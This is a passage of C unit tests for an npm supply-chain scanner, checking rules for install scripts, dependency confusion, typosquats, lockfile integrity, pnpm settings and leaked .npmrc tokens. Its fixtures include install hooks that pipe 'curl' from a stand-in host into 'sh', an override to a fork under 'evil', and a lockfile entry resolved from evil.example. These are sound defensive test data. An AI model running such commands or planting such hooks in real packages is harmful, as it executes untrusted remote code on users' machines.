/* Unit tests for the supply-chain scan engine: project loader, every rule (positive and
 * negative), determinism, fingerprints, baselines, diff, workspaces, errors. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "guards/deps/scan.h"
#include "guards/deps/semver.h"

/* A small corpus written for these tests: popular names and a few advisories. */
static const char top_tsv[] = "# version: 2026-01-01.1\n"
                              "lodash\t500000000\n"
                              "express\t300000000\n"
                              "react\t290000000\n"
                              "chalk\t200000000\n"
                              "debug\t190000000\n"
                              "left-pad\t100000\n";
static const char adv_tsv[] = "# version: 2026-02-01.1\n"
                              "lodash\t<4.17.21\tGHSA-test-0001\tHIGH\ttest advisory\n"
                              "event-stream\t3.3.6\tGHSA-test-0002\tCRITICAL\tmalicious\n"
                              "ua-parser-js\t0.7.29 || 0.8.0\tGHSA-test-0003\tCRITICAL\thijack\n";

static struct deps_corpus *corpus;

static int setup(void **state)
{
    struct deps_file f[] = {{"rules/supply-chain/top-packages.tsv", top_tsv, sizeof(top_tsv) - 1},
                            {"rules/supply-chain/advisories.tsv", adv_tsv, sizeof(adv_tsv) - 1}};
    char err[256];
    (void)state;
    return deps_corpus_new(f, 2, "sha256:test", &corpus, err, sizeof(err));
}

static int teardown(void **state)
{
    (void)state;
    deps_corpus_free(corpus);
    return 0;
}

/* Files as path, content pairs ending with NULL. */
#define MAX_FILES 16
struct fixture {
    struct deps_file f[MAX_FILES];
    size_t n;
};

static struct fixture fx(const char *path, ...)
{
    struct fixture x = {.n = 0};
    va_list ap;
    va_start(ap, path);
    for (const char *p = path; p && x.n < MAX_FILES; p = va_arg(ap, const char *)) {
        const char *d = va_arg(ap, const char *);
        x.f[x.n++] = (struct deps_file){p, d, strlen(d)};
    }
    va_end(ap);
    return x;
}

static struct deps_report *scan_fx(const struct fixture *x)
{
    struct deps_project *p = NULL;
    struct deps_project_error e;
    struct deps_report *r = NULL;
    int rc = deps_project_load(x->f, x->n, NULL, &p, &e);
    if (rc != 0)
        fail_msg("load: %d %s", rc, e.message);
    assert_int_equal(deps_scan(p, corpus, &r), 0);
    deps_project_free(p);
    return r;
}

/* Findings of rule (for package when not NULL). */
static size_t count(const struct deps_report *r, const char *rule, const char *pkg)
{
    size_t n = 0;
    for (size_t i = 0; i < r->n_findings; i++)
        if (strcmp(r->findings[i].rule_id, rule) == 0 &&
            (!pkg || strcmp(r->findings[i].package, pkg) == 0))
            n++;
    return n;
}

static const struct deps_finding *find(const struct deps_report *r, const char *rule,
                                       const char *pkg)
{
    for (size_t i = 0; i < r->n_findings; i++)
        if (strcmp(r->findings[i].rule_id, rule) == 0 &&
            (!pkg || strcmp(r->findings[i].package, pkg) == 0))
            return &r->findings[i];
    return NULL;
}

static void dump(const struct deps_report *r)
{
    for (size_t i = 0; i < r->n_findings; i++)
        print_message("  %s %s %s %s\n", r->findings[i].rule_id,
                      deps_severity_name(r->findings[i].severity), r->findings[i].package,
                      r->findings[i].message);
}

#define ROOT_PKG(deps) "{\"name\":\"app\",\"version\":\"1.0.0\",\"dependencies\":{" deps "}}"

/* ------------------------------------------------------------------ semver */

static void test_semver(void **state)
{
    static const struct {
        const char *v, *range;
        int want;
    } cases[] = {
        {"1.2.3", "^1.0.0", 1},
        {"2.0.0", "^1.0.0", 0},
        {"0.2.5", "^0.2.3", 1},
        {"0.3.0", "^0.2.3", 0},
        {"0.0.3", "^0.0.3", 1},
        {"0.0.4", "^0.0.3", 0},
        {"1.2.9", "~1.2.3", 1},
        {"1.3.0", "~1.2.3", 0},
        {"1.9.0", "1.x", 1},
        {"2.0.0", "1.x", 0},
        {"3.0.0", "*", 1},
        {"3.0.0", "", 1},
        {"1.5.0", ">=1.2 <2", 1},
        {"2.0.0", ">=1.2 <2", 0},
        {"0.8.0", "0.7.29 || 0.8.0", 1},
        {"0.7.30", "0.7.29 || 0.8.0", 0},
        {"1.5.0", "1.2.3 - 2", 1},
        {"3.0.0", "1.2.3 - 2", 0},
        {"1.0.0-rc.1", "^1.0.0", 0},
        {"1.0.0-rc.2", ">=1.0.0-rc.1", 1},
        {"1.4.44-liberty-2", "1.4.44-liberty-2", 1},
        {"4.17.20", "<4.17.21", 1},
        {"4.17.21", "<4.17.21", 0},
        {"10.1.2", ">=10.1.1 <10.1.3", 1},
        {"10.1.3", ">=10.1.1 <10.1.3", 0},
        {"1.2.3", "not a range", -EINVAL},
        {"x.y", "^1", -EINVAL},
    };
    struct deps_semver a, b;
    (void)state;
    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++)
        if (deps_semver_satisfies(cases[i].v, cases[i].range) != cases[i].want)
            fail_msg("%s in '%s': want %d", cases[i].v, cases[i].range, cases[i].want);
    assert_int_equal(deps_semver_parse("1.0.0-alpha", 11, &a), 0);
    assert_int_equal(deps_semver_parse("1.0.0-alpha.1", 13, &b), 0);
    assert_true(deps_semver_cmp(&a, &b) < 0);
    assert_int_equal(deps_semver_parse("1.0.0-beta.2", 12, &a), 0);
    assert_int_equal(deps_semver_parse("1.0.0-beta.11", 13, &b), 0);
    assert_true(deps_semver_cmp(&a, &b) < 0);
    assert_int_equal(deps_semver_parse("1.0.0", 5, &b), 0);
    assert_true(deps_semver_cmp(&a, &b) < 0);
    assert_int_equal(deps_semver_range_min(">=18.12 || ^16", &a), 0);
    assert_true(a.major == 16 && a.minor == 0);
    assert_int_equal(deps_semver_range_min(">17.1.0", &a), 0);
    assert_true(a.major == 17 && a.minor == 1 && a.patch == 1);
}

/* ------------------------------------------------------------------ rules */

static void test_post_install(void **state)
{
    struct fixture x =
        fx("package.json", ROOT_PKG("\"a\":\"1\",\"b\":\"1\",\"c\":\"1\",\"d\":\"1\",\"e\":\"1\""),
           "node_modules/a/package.json",
           "{\"name\":\"a\",\"version\":\"1.0.0\",\"license\":\"MIT\",\"scripts\":{\"postinstall\":"
           "\"curl -s https://x.example/i | sh\"}}",
           "node_modules/b/package.json",
           "{\"name\":\"b\",\"version\":\"1.0.0\",\"license\":\"MIT\",\"scripts\":{\"install\":"
           "\"node setup.js\"}}",
           "node_modules/c/package.json",
           "{\"name\":\"c\",\"version\":\"1.0.0\",\"license\":\"MIT\",\"scripts\":{\"install\":"
           "\"node-gyp rebuild\"}}",
           /* negative: build/test scripts, and prepare of a registry package */
           "node_modules/d/package.json",
           "{\"name\":\"d\",\"version\":\"1.0.0\",\"license\":\"MIT\",\"scripts\":{\"test\":\"curl "
           "x\",\"build\":\"tsc\",\"prepare\":\"node evil.js\"}}",
           "node_modules/e/package.json",
           "{\"name\":\"e\",\"version\":\"1.0.0\",\"license\":\"MIT\",\"_resolved\":\"git+https://"
           "github.com/o/e.git#abc\",\"scripts\":{\"prepare\":\"node build.js\"}}",
           NULL);
    struct deps_report *r = scan_fx(&x);
    (void)state;
    assert_int_equal(find(r, "L2-POST-001", "a")->severity, DEPS_SEV_CRITICAL);
    assert_non_null(strstr(find(r, "L2-POST-001", "a")->message, "network"));
    assert_int_equal(find(r, "L2-POST-001", "a")->line, 1);
    assert_int_equal(find(r, "L2-POST-001", "b")->severity, DEPS_SEV_HIGH);
    assert_int_equal(find(r, "L2-POST-001", "c")->severity, DEPS_SEV_LOW);
    assert_int_equal(count(r, "L2-POST-001", "d"), 0);
    assert_int_equal(count(r, "L2-POST-001", "e"), 1); /* prepare runs for git sources */
    assert_int_equal(count(r, "L2-POST-001", "app"), 0);
    deps_report_free(r);
}

static void test_dep_confusion(void **state)
{
    struct fixture x = fx(
        "package.json",
        ROOT_PKG("\"acme-internal-auth\":\"^1.0.0\",\"@acme/ui\":\"^2.0.0\",\"@corp/db\":\"^1."
                 "0.0\",\"internals\":\"^1.0.0\",\"express\":\"^4.0.0\""),
        ".npmrc", "@corp:registry=https://npm.corp.example/\n", "package-lock.json",
        "{\"lockfileVersion\":3,\"packages\":{\"\":{\"name\":\"app\"},"
        "\"node_modules/acme-internal-auth\":{\"version\":\"99.1.0\",\"resolved\":\"https://"
        "registry.npmjs.org/acme-internal-auth/-/acme-internal-auth-99.1.0.tgz\",\"integrity\":"
        "\"sha512-AA==\"},"
        "\"node_modules/@corp/db\":{\"version\":\"1.0.0\",\"resolved\":\"https://npm.corp.example/"
        "@corp/db/-/db-1.0.0.tgz\",\"integrity\":\"sha512-AA==\"}}}",
        NULL);
    struct deps_report *r = scan_fx(&x);
    (void)state;
    assert_int_equal(count(r, "L2-DEPC-001", "acme-internal-auth"), 2); /* name + 99.x */
    assert_int_equal(count(r, "L2-DEPC-001", "@acme/ui"), 1);           /* unmapped scope */
    assert_int_equal(count(r, "L2-DEPC-001", "@corp/db"), 0);           /* mapped scope */
    assert_int_equal(count(r, "L2-DEPC-001", "internals"), 0);          /* not the word */
    assert_int_equal(count(r, "L2-DEPC-001", "express"), 0);
    /* the scoped registry is respected by the lockfile check too */
    assert_int_equal(count(r, "L2-LOCK-001", "@corp/db"), 0);
    deps_report_free(r);
}

static void test_typo(void **state)
{
    struct fixture x =
        fx("package.json", ROOT_PKG("\"lodahs\":\"^1.0.0\",\"lodash\":\"^4.17.21\""), NULL);
    struct deps_report *r = scan_fx(&x);
    (void)state;
    assert_int_equal(count(r, "L2-TYPO-001", "lodahs"), 1);
    assert_non_null(strstr(find(r, "L2-TYPO-001", "lodahs")->message, "'lodash'"));
    assert_int_equal(count(r, "L2-TYPO-001", "lodash"), 0);
    deps_report_free(r);
}

static void test_manifest(void **state)
{
    struct fixture x = fx(
        "package.json", ROOT_PKG("\"a\":\"1\",\"b\":\"1\",\"c\":\"1\",\"d\":\"1\""),
        "node_modules/a/package.json",
        "{\"name\":\"not-a\",\"version\":\"1.0.0\",\"license\":\"MIT\"}",
        "node_modules/b/package.json",
        "{\"name\":\"b\",\"version\":\"1.0.0\",\"license\":\"MIT\",\"main\":\"../../.ssh/x.js\"}",
        "node_modules/c/package.json",
        "{\"name\":\"c\",\"version\":\"1.0.0\",\"license\":\"MIT\","
        "\"main\":\"lib/index.js\",\"bin\":{\"c\":\"bin/c.js\"}}",
        "node_modules/d/package.json", "{\"name\":\"d\",", NULL);
    struct deps_report *r = scan_fx(&x);
    (void)state;
    assert_int_equal(count(r, "L2-MANI-001", "not-a"), 1);
    assert_int_equal(count(r, "L2-MANI-002", "b"), 1);
    assert_int_equal(count(r, "L2-MANI-001", "c") + count(r, "L2-MANI-002", "c"), 0);
    assert_int_equal(count(r, "L2-MANI-002", "d"), 1); /* does not parse: a finding, not an error */
    deps_report_free(r);
}

/* Where installed packages are: node_modules/<name>, node_modules/@scope/<name>, nested under a
 * package's own node_modules, and pnpm's virtual store. A node_modules folder deeper in a
 * package (its test fixtures) holds files of that package, not installed packages. */
static void test_install_layout(void **state)
{
    struct fixture x =
        fx("package.json", ROOT_PKG("\"a\":\"1\""), "node_modules/a/package.json",
           "{\"name\":\"a\",\"version\":\"1.0.0\",\"license\":\"MIT\"}",
           "node_modules/a/node_modules/@s/b/package.json",
           "{\"name\":\"@s/b\",\"version\":\"1.0.0\",\"license\":\"MIT\",\"scripts\":{"
           "\"postinstall\":\"node x.js\"}}",
           "node_modules/.pnpm/c@1.0.0/node_modules/c/package.json",
           "{\"name\":\"not-c\",\"version\":\"1.0.0\",\"license\":\"MIT\"}",
           /* fixtures of a: no name, no version, a misnamed folder, an install script */
           "node_modules/a/test/fixture/node_modules/foo/package.json", "{\"name\":\"bar\"}",
           "node_modules/a/test/fixture/node_modules/@x/evil/package.json",
           "{\"name\":\"@x/evil\",\"version\":\"1.0.0\",\"scripts\":{\"postinstall\":\"curl "
           "https://x.example | sh\"}}",
           "node_modules/a/node_modules/@s/b/fixtures/node_modules/.pnpm/d@1.0.0/node_modules/d/"
           "package.json",
           "{\"version\":\"1.0.0\"}", NULL);
    struct deps_report *r = scan_fx(&x);
    (void)state;
    assert_int_equal(count(r, "L2-POST-001", "@s/b"), 1);
    assert_int_equal(count(r, "L2-MANI-001", "not-c"), 1);
    assert_int_equal(count(r, "L2-LOCK-001", NULL), 1); /* no lockfile */
    if (r->n_findings != 3) {
        dump(r);
        fail_msg("%zu findings, expected 3: fixtures are not installed packages", r->n_findings);
    }
    deps_report_free(r);
}

static void test_fork_and_provenance(void **state)
{
    struct fixture x = fx(
        "package.json",
        ROOT_PKG("\"chalk\":\"github:someone/chalk\",\"debug\":\"git+https://github.com/d/"
                 "debug.git#0123456789abcdef0123456789abcdef01234567\",\"express\":\"^4.0.0\""),
        "package-lock.json",
        "{\"lockfileVersion\":3,\"packages\":{\"\":{\"name\":\"app\"},"
        "\"node_modules/chalk\":{\"version\":\"5.0.0\",\"resolved\":\"git+ssh://git@github.com/"
        "someone/chalk.git#0123456789abcdef0123456789abcdef01234567\"},"
        "\"node_modules/debug\":{\"version\":\"4.0.0\",\"resolved\":\"git+https://github.com/d/"
        "debug.git#0123456789abcdef0123456789abcdef01234567\"},"
        "\"node_modules/express\":{\"version\":\"4.0.0\",\"resolved\":\"https://registry.npmjs.org"
        "/express/-/express-4.0.0.tgz\",\"integrity\":\"sha512-AA==\"}}}",
        NULL);
    struct deps_report *r = scan_fx(&x);
    (void)state;
    assert_int_equal(count(r, "L2-FORK-001", "chalk"), 1);
    assert_int_equal(count(r, "L2-FORK-001", "express"), 0);
    assert_int_equal(count(r, "L2-PROV-001", "chalk"), 1); /* github:owner/repo, no commit */
    assert_int_equal(count(r, "L2-PROV-001", "debug"), 0); /* pinned to a full commit */
    assert_int_equal(count(r, "L2-SIDELOAD-001", "chalk"), 1);
    assert_int_equal(count(r, "L2-SIDELOAD-001", "express"), 0);
    deps_report_free(r);
}

static void test_maintainers(void **state)
{
    struct fixture x =
        fx("package.json", ROOT_PKG("\"a\":\"1\",\"b\":\"1\""), "node_modules/a/package.json",
           "{\"name\":\"a\",\"version\":\"1.0.0\",\"license\":\"MIT\",\"maintainers\":[{\"name\":"
           "\"alice\"}]}",
           "node_modules/x/node_modules/a/package.json",
           "{\"name\":\"a\",\"version\":\"1.1.0\",\"license\":\"MIT\",\"_npmUser\":{\"name\":\"mal"
           "lory\"},\"maintainers\":[{\"name\":\"mallory\"}]}",
           "node_modules/b/package.json",
           "{\"name\":\"b\",\"version\":\"1.0.0\",\"license\":\"MIT\",\"maintainers\":[\"bob "
           "<b@example.org>\"]}",
           "node_modules/y/node_modules/b/package.json",
           "{\"name\":\"b\",\"version\":\"2.0.0\",\"license\":\"MIT\",\"maintainers\":[\"carol\","
           "\"bob\"]}",
           NULL);
    struct deps_report *r = scan_fx(&x);
    (void)state;
    assert_int_equal(count(r, "L2-MAINT-001", "a"), 1);
    assert_string_equal(find(r, "L2-MAINT-001", "a")->version, "1.1.0");
    assert_int_equal(count(r, "L2-MAINT-001", "b"), 0);
    deps_report_free(r);
}

static void test_engines_and_license(void **state)
{
    struct fixture x = fx(
        "package.json",
        "{\"name\":\"app\",\"engines\":{\"node\":\">=16\"},\"dependencies\":{\"a\":\"1\"}}",
        "node_modules/a/package.json",
        "{\"name\":\"a\",\"version\":\"1.0.0\",\"license\":\"GPL-3.0-only\",\"engines\":{\"node\""
        ":\">=20\"}}",
        "node_modules/b/package.json",
        "{\"name\":\"b\",\"version\":\"1.0.0\",\"license\":\"(MIT OR GPL-3.0-or-later)\","
        "\"engines\":{\"node\":\">=14\"}}",
        "node_modules/c/package.json",
        "{\"name\":\"c\",\"version\":\"1.0.0\",\"license\":\"MIT AND AGPL-3.0-only\"}",
        "node_modules/d/package.json",
        "{\"name\":\"d\",\"version\":\"1.0.0\",\"license\":\"MIT OR\"}",
        "node_modules/e/package.json", "{\"name\":\"e\",\"version\":\"1.0.0\"}",
        "node_modules/f/package.json",
        "{\"name\":\"f\",\"version\":\"1.0.0\",\"license\":\"Apache-2.0 WITH LLVM-exception\"}",
        NULL);
    struct deps_report *r = scan_fx(&x);
    (void)state;
    assert_int_equal(count(r, "L2-ENGIN-001", "a"), 1);
    assert_int_equal(count(r, "L2-ENGIN-001", "b"), 0);
    assert_int_equal(find(r, "L2-LICENSE-001", "a")->severity, DEPS_SEV_MEDIUM);
    assert_int_equal(count(r, "L2-LICENSE-001", "b"), 0); /* a permissive choice exists */
    assert_int_equal(count(r, "L2-LICENSE-001", "c"), 1);
    assert_non_null(strstr(find(r, "L2-LICENSE-001", "d")->message, "not a valid SPDX"));
    assert_non_null(strstr(find(r, "L2-LICENSE-001", "e")->message, "no license"));
    assert_int_equal(count(r, "L2-LICENSE-001", "f"), 0);
    deps_report_free(r);
}

static void test_lockfile(void **state)
{
    struct fixture x = fx(
        "package.json",
        ROOT_PKG("\"ok\":\"^1.0.0\",\"noint\":\"^1.0.0\",\"weak\":\"^1.0.0\",\"plain\":\"^1.0.0\","
                 "\"elsewhere\":\"^1.0.0\",\"swapped\":\"^1.0.0\",\"absent\":\"^1.0.0\","
                 "\"drift\":\"^2.0.0\""),
        "package-lock.json",
        "{\"lockfileVersion\":3,\"packages\":{\"\":{\"name\":\"app\",\"dependencies\":{"
        "\"ok\":\"^1.0.0\",\"noint\":\"^1.0.0\",\"weak\":\"^1.0.0\",\"plain\":\"^1.0.0\","
        "\"elsewhere\":\"^1.0.0\",\"swapped\":\"^1.0.0\",\"drift\":\"^1.0.0\"}},\n"
        "\"node_modules/ok\":{\"version\":\"1.0.0\",\"resolved\":\"https://registry.npmjs.org/ok/"
        "-/ok-1.0.0.tgz\",\"integrity\":\"sha512-AA==\"},\n"
        "\"node_modules/noint\":{\"version\":\"1.0.0\",\"resolved\":\"https://registry.npmjs.org/"
        "noint/-/noint-1.0.0.tgz\"},\n"
        "\"node_modules/weak\":{\"version\":\"1.0.0\",\"resolved\":\"https://registry.npmjs.org/"
        "weak/-/weak-1.0.0.tgz\",\"integrity\":\"sha1-AA==\"},\n"
        "\"node_modules/plain\":{\"version\":\"1.0.0\",\"resolved\":\"http://registry.npmjs.org/"
        "plain/-/plain-1.0.0.tgz\",\"integrity\":\"sha512-AA==\"},\n"
        "\"node_modules/elsewhere\":{\"version\":\"1.0.0\",\"resolved\":\"https://evil.example/"
        "elsewhere/-/elsewhere-1.0.0.tgz\",\"integrity\":\"sha512-AA==\"},\n"
        "\"node_modules/swapped\":{\"version\":\"1.0.0\",\"resolved\":\"https://registry.npmjs.org"
        "/other/-/other-1.0.0.tgz\",\"integrity\":\"sha512-AA==\"},\n"
        "\"node_modules/drift\":{\"version\":\"1.0.0\",\"resolved\":\"https://registry.npmjs.org/"
        "drift/-/drift-1.0.0.tgz\",\"integrity\":\"sha512-AA==\"}}}",
        NULL);
    struct deps_report *r = scan_fx(&x);
    (void)state;
    assert_int_equal(count(r, "L2-LOCK-001", "ok"), 0);
    assert_non_null(strstr(find(r, "L2-LOCK-001", "noint")->message, "no integrity"));
    assert_non_null(strstr(find(r, "L2-LOCK-001", "weak")->message, "sha1"));
    assert_non_null(strstr(find(r, "L2-LOCK-001", "plain")->message, "plain http"));
    assert_int_equal(count(r, "L2-LOCK-001", "plain"), 1);
    assert_non_null(strstr(find(r, "L2-LOCK-001", "elsewhere")->message, "expected registry"));
    assert_non_null(strstr(find(r, "L2-LOCK-001", "swapped")->message, "not this package"));
    assert_non_null(strstr(find(r, "L2-LOCK-001", "absent")->message, "missing from"));
    assert_non_null(strstr(find(r, "L2-LOCK-001", "drift")->message, "out of date"));
    assert_int_equal(find(r, "L2-LOCK-001", "absent")->line, 1);
    deps_report_free(r);

    /* yarn v1: "#<sha1>" after the tarball is not a mismatch; a swapped tarball is */
    x = fx("package.json", ROOT_PKG("\"etag\":\"^1.8.0\",\"ms\":\"^2.0.0\""), "yarn.lock",
           "# yarn lockfile v1\n\n\netag@^1.8.0:\n  version \"1.8.1\"\n  resolved "
           "\"https://registry.yarnpkg.com/etag/-/etag-1.8.1.tgz#f0a1b2\"\n  integrity "
           "sha512-AA==\n\nms@^2.0.0:\n  version \"2.1.3\"\n  resolved "
           "\"https://registry.yarnpkg.com/ms/-/ms-2.0.0.tgz#00aa\"\n  integrity sha512-AA==\n",
           NULL);
    r = scan_fx(&x);
    dump(r);
    assert_int_equal(count(r, "L2-LOCK-001", "etag"), 0);
    assert_non_null(strstr(find(r, "L2-LOCK-001", "ms")->message, "not this package"));
    deps_report_free(r);

    /* no lockfile at all */
    x = fx("package.json", ROOT_PKG("\"ok\":\"^1.0.0\""), NULL);
    r = scan_fx(&x);
    assert_non_null(strstr(find(r, "L2-LOCK-001", "")->message, "no lockfile"));
    deps_report_free(r);
}

static void test_pnpm_settings(void **state)
{
    struct fixture x =
        fx("package.json", "{\"name\":\"app\",\"dependencies\":{\"esbuild\":\"^0.20.0\"}}",
           "pnpm-workspace.yaml",
           "packages:\n  - 'packages/*'\ndangerouslyAllowAllBuilds: true\n"
           "onlyBuiltDependencies:\n  - esbuild\n  - ghost-pkg\n"
           "overrides:\n  lodash: github:evil/lodash\n  minimist: ^1.2.8\n"
           "patchedDependencies:\n  esbuild@0.20.0: patches/esbuild.patch\n",
           "pnpm-lock.yaml",
           "lockfileVersion: '9.0'\n\nimporters:\n\n  .:\n    dependencies:\n      esbuild:\n"
           "        specifier: ^0.20.0\n        version: 0.20.0\n\npackages:\n\n  esbuild@0.20.0:\n"
           "    resolution: {integrity: sha512-AA==}\n    hasBin: true\n\nsnapshots:\n\n"
           "  esbuild@0.20.0: {}\n",
           NULL);
    struct deps_report *r = scan_fx(&x);
    (void)state;
    dump(r);
    assert_int_equal(count(r, "L2-PNPM-001", ""), 1); /* dangerouslyAllowAllBuilds */
    assert_int_equal(find(r, "L2-PNPM-001", "")->line, 3);
    assert_int_equal(count(r, "L2-PNPM-001", "ghost-pkg"), 1);
    assert_int_equal(count(r, "L2-PNPM-001", "esbuild"), 0);
    assert_int_equal(count(r, "L2-PNPM-001", "lodash"), 1);
    assert_int_equal(count(r, "L2-PNPM-001", "minimist"), 0);
    assert_int_equal(count(r, "L2-PNPM-001", "esbuild@0.20.0"), 1);
    assert_int_equal(count(r, "L2-LOCK-001", NULL), 0);
    deps_report_free(r);

    /* negative: a reviewed allow-list only */
    x = fx("package.json", "{\"name\":\"app\",\"dependencies\":{\"esbuild\":\"^0.20.0\"}}",
           "pnpm-workspace.yaml", "onlyBuiltDependencies:\n  - esbuild\n", "pnpm-lock.yaml",
           "lockfileVersion: '9.0'\n\nimporters:\n\n  .:\n    dependencies:\n      esbuild:\n"
           "        specifier: ^0.20.0\n        version: 0.20.0\n\npackages:\n\n  esbuild@0.20.0:\n"
           "    resolution: {integrity: sha512-AA==}\n\nsnapshots:\n\n  esbuild@0.20.0: {}\n",
           NULL);
    r = scan_fx(&x);
    dump(r);
    assert_int_equal(r->n_findings, 0);
    deps_report_free(r);
}

static void test_sideload(void **state)
{
    struct fixture x = fx(
        "package.json",
        ROOT_PKG("\"g\":\"git+ssh://git@github.com/o/g.git\",\"h\":\"github:o/h\","
                 "\"t\":\"https://cdn.example/t-1.0.0.tgz\",\"f\":\"file:../f\",\"l\":\"link:./l\","
                 "\"react\":\"npm:preact@10\",\"s\":\"^1.0.0\",\"w\":\"workspace:*\","
                 "\"o\":\"owner/repo\""),
        NULL);
    struct deps_report *r = scan_fx(&x);
    (void)state;
    assert_int_equal(find(r, "L2-SIDELOAD-001", "g")->severity, DEPS_SEV_HIGH);
    assert_int_equal(find(r, "L2-SIDELOAD-001", "h")->severity, DEPS_SEV_HIGH);
    assert_int_equal(find(r, "L2-SIDELOAD-001", "o")->severity, DEPS_SEV_HIGH);
    assert_int_equal(find(r, "L2-SIDELOAD-001", "t")->severity, DEPS_SEV_HIGH);
    assert_int_equal(find(r, "L2-SIDELOAD-001", "f")->severity, DEPS_SEV_LOW);
    assert_int_equal(find(r, "L2-SIDELOAD-001", "l")->severity, DEPS_SEV_LOW);
    assert_int_equal(find(r, "L2-SIDELOAD-001", "react")->severity, DEPS_SEV_HIGH);
    assert_int_equal(count(r, "L2-SIDELOAD-001", "s"), 0);
    assert_int_equal(count(r, "L2-SIDELOAD-001", "w"), 0);
    deps_report_free(r);
}

static void test_advisories(void **state)
{
    struct fixture x =
        fx("package.json", ROOT_PKG("\"lodash\":\"^4.0.0\""), "node_modules/lodash/package.json",
           "{\"name\":\"lodash\",\"version\":\"4.17.15\",\"license\":\"MIT\"}",
           "node_modules/event-stream/package.json",
           "{\"name\":\"event-stream\",\"version\":\"3.3.5\",\"license\":\"MIT\"}",
           "node_modules/ua-parser-js/package.json",
           "{\"name\":\"ua-parser-js\",\"version\":\"0.8.0\",\"license\":\"MIT\"}",
           "node_modules/q/node_modules/lodash/package.json",
           "{\"name\":\"lodash\",\"version\":\"4.17.21\",\"license\":\"MIT\"}", NULL);
    struct deps_report *r = scan_fx(&x);
    (void)state;
    assert_int_equal(count(r, "L2-ADV-001", "lodash"), 1);
    assert_string_equal(find(r, "L2-ADV-001", "lodash")->version, "4.17.15");
    assert_int_equal(count(r, "L2-ADV-001", "event-stream"), 0); /* name alone never matches */
    assert_int_equal(find(r, "L2-ADV-001", "ua-parser-js")->severity, DEPS_SEV_CRITICAL);
    assert_int_equal(r->n_pkgs, 4);
    deps_report_free(r);
}

static void test_npmrc(void **state)
{
    struct fixture x = fx("package.json", "{\"name\":\"app\"}", ".npmrc",
                          "registry=http://npm.internal.example/\n"
                          "//npm.internal.example/:_authToken=npm_abcdefSECRET\n"
                          "//other.example/:_authToken=${NPM_TOKEN}\n"
                          "strict-ssl=false\n",
                          NULL);
    struct deps_report *r = scan_fx(&x);
    struct deps_buf b = {0};
    (void)state;
    assert_int_equal(count(r, "L2-CRED-001", NULL), 1);
    assert_int_equal(find(r, "L2-CRED-001", NULL)->line, 2);
    assert_int_equal(count(r, "L2-PNPM-001", NULL), 1);
    assert_int_equal(count(r, "L2-LOCK-001", NULL), 1);
    deps_report_write_json(r, NULL, &b);
    assert_null(strstr(b.s, "SECRET")); /* the credential never reaches the report */
    deps_buf_free(&b);
    deps_report_free(r);
}

/* ------------------------------------------------------------------ workspaces */

static void test_workspaces(void **state)
{
    struct fixture x = fx(
        "package.json", "{\"name\":\"mono\",\"private\":true,\"workspaces\":[\"packages/*\"]}",
        "packages/a/package.json", "{\"name\":\"@mono/a\",\"dependencies\":{\"lodahs\":\"^1\"}}",
        "packages/b/package.json", "{\"name\":\"@mono/b\",\"dependencies\":{\"@mono/a\":\"*\"}}",
        "examples/c/package.json", "{\"name\":\"c\",\"dependencies\":{\"lodahs\":\"^1\"}}", NULL);
    struct deps_report *r = scan_fx(&x);
    (void)state;
    assert_int_equal(r->workspaces, 2);
    assert_int_equal(count(r, "L2-TYPO-001", "lodahs"), 1); /* examples/ is not a workspace */
    assert_string_equal(find(r, "L2-TYPO-001", "lodahs")->file, "packages/a/package.json");
    deps_report_free(r);

    /* pnpm: pnpm-workspace.yaml packages, lockfile importers per workspace */
    x = fx("package.json", "{\"name\":\"mono\"}", "pnpm-workspace.yaml",
           "packages:\n  - 'apps/**'\n  - '!apps/skip'\n", "apps/web/package.json",
           "{\"name\":\"web\",\"dependencies\":{\"left-pad\":\"^1.3.0\","
           "\"express\":\"^4.0.0\"}}",
           "apps/skip/package.json", "{\"name\":\"skip\",\"dependencies\":{\"lodahs\":\"^1\"}}",
           "pnpm-lock.yaml",
           "lockfileVersion: '9.0'\n\nimporters:\n\n  .: {}\n\n  apps/web:\n    dependencies:\n"
           "      left-pad:\n        specifier: ^1.3.0\n        version: 1.3.0\n\npackages:\n\n"
           "  left-pad@1.3.0:\n    resolution: {integrity: sha512-AA==}\n\nsnapshots:\n\n"
           "  left-pad@1.3.0: {}\n",
           NULL);
    r = scan_fx(&x);
    dump(r);
    assert_int_equal(r->workspaces, 1);
    assert_int_equal(count(r, "L2-TYPO-001", "lodahs"), 0);
    assert_int_equal(count(r, "L2-LOCK-001", "left-pad"), 0);
    assert_int_equal(count(r, "L2-LOCK-001", "express"), 1); /* web's, missing from its importer */
    assert_string_equal(find(r, "L2-LOCK-001", "express")->file, "apps/web/package.json");
    deps_report_free(r);
}

/* ------------------------------------------------------------------ determinism, baselines */

static char *render(const struct deps_report *r)
{
    struct deps_buf b = {0};
    deps_report_write_json(r, NULL, &b);
    assert_false(b.oom);
    return b.s;
}

static void test_determinism_and_fingerprints(void **state)
{
    struct fixture x =
        fx("package.json", ROOT_PKG("\"lodahs\":\"^1\",\"g\":\"github:o/g\",\"a\":\"1\""),
           "node_modules/a/package.json",
           "{\"name\":\"a\",\"version\":\"1.0.0\",\"scripts\":{\"postinstall\":\"node x.js\"}}",
           "node_modules/lodash/package.json", "{\"name\":\"lodash\",\"version\":\"4.0.0\"}", NULL);
    struct fixture y = x;
    (void)state;
    /* the same files in another order, and the root package.json with lines added */
    for (size_t i = 0; i < y.n; i++)
        y.f[i] = x.f[x.n - 1 - i];
    struct deps_report *r1 = scan_fx(&x), *r2 = scan_fx(&x), *r3 = scan_fx(&y);
    char *a = render(r1), *b = render(r2), *c = render(r3);
    assert_string_equal(a, b);
    assert_string_equal(a, c);
    /* sorted: severity descending */
    for (size_t i = 1; i < r1->n_findings; i++)
        assert_true(r1->findings[i - 1].severity >= r1->findings[i].severity);

    static const char moved[] =
        "\n\n\n" ROOT_PKG("\"lodahs\":\"^1\",\"g\":\"github:o/g\",\"a\":\"1\"");
    struct fixture z = x;
    z.f[0] = (struct deps_file){"package.json", moved, sizeof(moved) - 1};
    struct deps_report *r4 = scan_fx(&z);
    assert_int_equal(r4->n_findings, r1->n_findings);
    const struct deps_finding *t1 = find(r1, "L2-TYPO-001", "lodahs"),
                              *t4 = find(r4, "L2-TYPO-001", "lodahs");
    assert_int_not_equal(t1->line, t4->line);
    assert_string_equal(t1->fingerprint, t4->fingerprint); /* no line in the fingerprint */

    /* baseline: every finding of the first report suppressed in the second */
    struct deps_fpset base;
    char err[256];
